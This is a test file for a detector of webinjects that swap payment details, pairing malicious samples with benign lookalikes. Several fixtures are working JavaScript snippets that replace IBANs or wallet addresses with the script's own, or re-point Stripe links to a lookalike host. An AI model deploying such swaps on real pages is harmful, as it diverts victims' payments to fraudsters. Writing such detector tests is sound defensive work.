/**
 * Webinjects that swap the payment details a victim reads. Table rows pair each swap with the benign code that
 * recognises the same identifiers (formatting, validation, links to the provider itself).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ibanIsValid } from '../../src/analyze/detectors/payment-detail-swap.ts';
import { detectorTable, type DetectorCase } from './detector-table.ts';

const IBAN = String.raw`/\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){3,7}\b/g`;

const swaps: DetectorCase[] = [
  ['IBANs in page text replaced by one the script carries',
    `var ACC = "ES91 2100 0418 4502 0005 1332"; function fix(n) { n.nodeValue = n.nodeValue.replace(${IBAN}, function () { return ACC; }); }`, 'high'],
  ['IBANs only re-spaced for display',
    `function fmt(n) { n.nodeValue = n.nodeValue.replace(${IBAN}, function (m) { return m.replace(/(.{4})/g, "$1 ").trim(); }); }`, null],
  ['an IBAN-shaped string that fails its check digits',
    `var ACC = "ES00 2100 0418 4502 0005 1332"; function fix(n) { n.nodeValue = n.nodeValue.replace(${IBAN}, ACC); }`, null],
  ['wallet addresses swapped through a rules table',
    'var rules = [{ re: /\\b0x[a-fA-F0-9]{40}\\b/g, to: "0x7A3f9c21D4e8b05F6a1C2d3E4f5061728394aBcD" }]; rules.forEach(function (r) { el.textContent = el.textContent.replace(r.re, r.to); });', 'high'],
  ['the carried IBAN written into a cell found by an IBAN test',
    'var mine = "NL91 ABNA 0417 1643 00"; $("td").each(function () { var t = $(this).text(); if (/^[A-Z]{2}\\d{2}[\\sA-Z0-9]{10,30}$/.test(t)) $(this).text(mine); });', 'high'],
  ['payment links re-pointed through a helper to another host',
    'function map(h) { return /buy\\.stripe\\.com/.test(h) ? "https://checkout.stripe-pay.example/c/" + btoa(h) : null; } document.querySelectorAll("a").forEach(function (a) { var n = map(a.href); if (n) a.setAttribute("href", n); });', 'high'],
  ['payment links pointed at the provider itself',
    'document.querySelectorAll("a").forEach(function (a) { if (/paypal\\.me/.test(a.href)) a.setAttribute("href", "https://www.paypal.com/paypalme/shop"); });', null],
];

detectorTable('payment-detail-swap', swaps);

test('IBAN check digits (ISO 13616 remainder 97)', () => {
  assert.equal(ibanIsValid('DE89 3704 0044 0532 0130 00'), true);
  assert.equal(ibanIsValid('GB33BUKB20201555555555'), true);
  assert.equal(ibanIsValid('DE88 3704 0044 0532 0130 00'), false);
  assert.equal(ibanIsValid('DE89 3704'), false);
});
